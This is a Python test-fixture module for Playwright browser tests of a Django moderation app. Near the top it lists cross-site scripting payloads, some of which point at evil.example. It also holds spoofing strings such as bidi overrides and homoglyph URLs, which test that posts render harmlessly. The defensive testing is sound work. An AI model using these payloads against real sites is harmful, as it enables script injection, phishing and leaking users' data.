"""What the browser tests play on: cases with hostile and honest posts, and pages of people who signed in."""

import math
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from axe_playwright_python.base import AXE_SCRIPT
from django.test import Client
from playwright.sync_api import BrowserContext, Dialog, Page, Request

from moderation.models import Case, Decision, Release, Score, User
from moderation.queries.records import stored_records
from scoring.features import NAMES, NO_MODELS, extract
from tests.django_fixtures import wait_until

# Trial 17: what has worked against somebody, somewhere. Every one calls alert or leaves the page's origin.
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">click</a> [click](javascript:alert(1))',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css';</style>",
    "<div hx-get='http://evil.example/' hx-trigger='load'></div><div hx-on::load='alert(1)'></div>",
    "<div data-key='s' v-html='alert(1)' ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "{% load static %}{{ request.user.password }}${alert(1)}#{alert(1)}",
    '"><img src=http://evil.example/pixel.gif><"',
    "' onmouseover='alert(1)' style='position:fixed;inset:0' autofocus onfocus='alert(1)",
    "<form action=http://evil.example><button data-key=f>x</button></form><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "</textarea></title></script></dialog><script>alert(1)</script>",
    "<template><img src=x onerror=alert(1)></template><!--><img src=x onerror=alert(1)>-->",
)
# Trial 18: what deceives the eye or breaks out of its box.
SPOOFS = (
    "invoice_\u202egpj.exe\u202c and \u2066isolates\u2069",
    "fr\u200be\u200be p\u0430yp\u0430l 𝗙𝗥𝗘𝗘 \U000e0041\U000e0042",
    "https://paypal.com@evil.example/ https://раураl.example/ http://0x7f.1/",
    "W" * 20_000,
    "a" + "\u0301" * 10_000,
    "\n".join("line" for _ in range(3_000)),
)

# Trial 18 once more, and what real names look like: right to left, marks on marks, none at all.
PEOPLE = (
    "محمد عبد الرحمن بن عبد الله الأنصاري",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0363\u034b\u035a\u0356l\u0368\u034a\u0346g\u0357\u0315\u0321o",
    "Wolfeschlegelsteinhausenbergerdorff" * 5,
    "\u202egro.knab-ruoy\u202c",
)
LONG_HOST = "a-very-long-name-that-goes-on.and-on." * 4 + "cheap-and-entirely-genuine-watches.example"
PATIENCE_SECONDS = 60
"""How long a page or the server may take where others load the machine, too."""

Open = Callable[..., Page]
Settle = Callable[[Page], None]


@dataclass
class Watch:
    """What a page did that it must not do."""

    origin: str
    off_origin: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)
    in_flight: set[Request] = field(default_factory=set)

    def over(self, page: Page) -> Page:
        """Watch a page from now on."""
        page.on("request", self._requested)
        page.on("requestfinished", self._answered)
        page.on("requestfailed", self._answered)
        page.on("dialog", self._dismiss)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("console", lambda line: self._said(line.type, line.text))
        return page

    @property
    def findings(self) -> list[str]:
        """Everything that was seen; empty is good."""
        return [*self.off_origin, *self.dialogs, *self.complaints]

    def _dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _requested(self, request: Request) -> None:
        self.in_flight.add(request)
        if not request.url.startswith((self.origin, "data:", "blob:")):
            self.off_origin.append(request.url)

    def _answered(self, request: Request) -> None:
        self.in_flight.discard(request)

    def _said(self, kind: str, text: str) -> None:
        if kind == "error":
            self.complaints.append(text)


def sign_in(context: BrowserContext, user: User, origin: str) -> None:
    """Give a browser the session of a person."""
    client = Client()
    client.force_login(user)
    context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": origin}])


def explain(case: Case) -> None:
    """Give a case's score a reason of every feature, and a change that would have altered its route."""
    record = stored_records.read(Score.objects.get(pk=case.score_id))
    values = extract(record, models=NO_MODELS).tolist()
    reasons = [
        [name, None if math.isnan(value) else value, (0.9 - place / 60) * (-1 if place % 7 == 6 else 1)]
        for place, (name, value) in enumerate(zip(NAMES, values, strict=True))
    ]
    Score.objects.filter(pk=case.score_id).update(
        spam_probability=0.83,
        contributions=[["content.text", 0.93, 2.4], *reasons],
        sub_models={"content": 0.93, "behaviour": 0.7, "ip_url": 0.6, "feedback": 0.1},
        counterfactual={
            "change": "word_removed",
            "subject": "http://pills.example/now",
            "probability": 0.08,
            "route": "allow",
        },
    )
    manifest = {"thresholds": {"review_from": 0.2, "remove_from": 0.9}, "training": {"simulated": True}}
    Release.objects.filter(scores=case.score_id).update(manifest=manifest)


def press_and_wait(page: Page, key: str) -> None:
    """Press a key and wait until another case, or none, is in front and its page listens to keys."""
    wait_for_keys(page)
    before = page.evaluate("document.querySelector('[data-case]')?.dataset.case ?? ''")
    page.keyboard.press(key)
    page.wait_for_function(
        "before => (document.querySelector('[data-case]')?.dataset.case ?? '') !== before", arg=before
    )
    wait_for_keys(page)


def wait_for_keys(page: Page) -> None:
    """Wait until the page listens to keys: its modules run after it is painted."""
    page.wait_for_function("() => document.documentElement.hasAttribute('data-listens')")


def wait_for_decisions(count: int) -> None:
    """Wait until so many are stored: the page goes on before the server has answered."""
    wait_until(lambda: Decision.objects.count() == count)


def wait_until_idle(page: Page, is_asked: Callable[[], bool]) -> None:
    """Wait until nothing is asked of the server and the page has done what the answers led to.

    To see that something does not happen: three frames in a row in which nothing is under way.
    """
    deadline, frames = time.monotonic() + PATIENCE_SECONDS, 0
    while frames < 3:
        assert time.monotonic() < deadline, "the page never comes to rest"
        page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        frames = 0 if is_asked() else frames + 1


def violations(page: Page) -> list[str]:
    """What axe finds in both themes, one line each; and whether the page leaves its window, at 200 % too.

    A theme changes colours alone, so in the dark only the contrast is looked at. Motion is reduced: a
    colour on its way from light to dark has no contrast yet.
    """
    page.emulate_media(reduced_motion="reduce")
    found = _axe(page, {"rules": {"target-size": {"enabled": True}}})
    page.emulate_media(color_scheme="dark")
    found += [f"dark: {one}" for one in _axe(page, {"runOnly": ["color-contrast"]})]
    page.emulate_media(color_scheme="light")
    return found + _too_wide(page) + _too_wide(page, at=(640, 400))


def _too_wide(page: Page, *, at: tuple[int, int] | None = None) -> list[str]:
    """Tell whether the page leaves its window; 640 by 400 is a small screen at 200 %."""
    before = page.viewport_size
    if at and before:
        page.set_viewport_size({"width": at[0], "height": at[1]})
    width = page.evaluate("document.documentElement.scrollWidth - innerWidth")
    if at and before:
        page.set_viewport_size(before)
    return [f"{width} px wider than the window{f' of {at[0]} px' if at else ''}"] if width > 0 else []


def _axe(page: Page, options: dict[str, Any]) -> list[str]:
    if not page.evaluate("'axe' in window"):
        page.evaluate(AXE_SCRIPT)
    found: list[str] = page.evaluate(_VIOLATIONS, options | {"resultTypes": ["violations"]})
    return found


# Told as lines: the whole answer, with every node that passed, takes longer to hand over than to find.
_VIOLATIONS = """async options => (await axe.run(options)).violations.flatMap(
    each => each.nodes.map(node => `${each.id}: ${node.html.slice(0, 160)}`)
)"""


def reviewing(page: Page) -> Page:
    """Take the first case, and return the page once three stand behind it."""
    page.goto("/review/")
    press_and_wait(page, "r")
    wait_for_ahead(page)
    return page


def wait_for_ahead(page: Page) -> None:
    """Wait until three cases stand behind the one in front."""
    page.wait_for_function("() => document.getElementById('desk').dataset.held.split(',').length === 4")
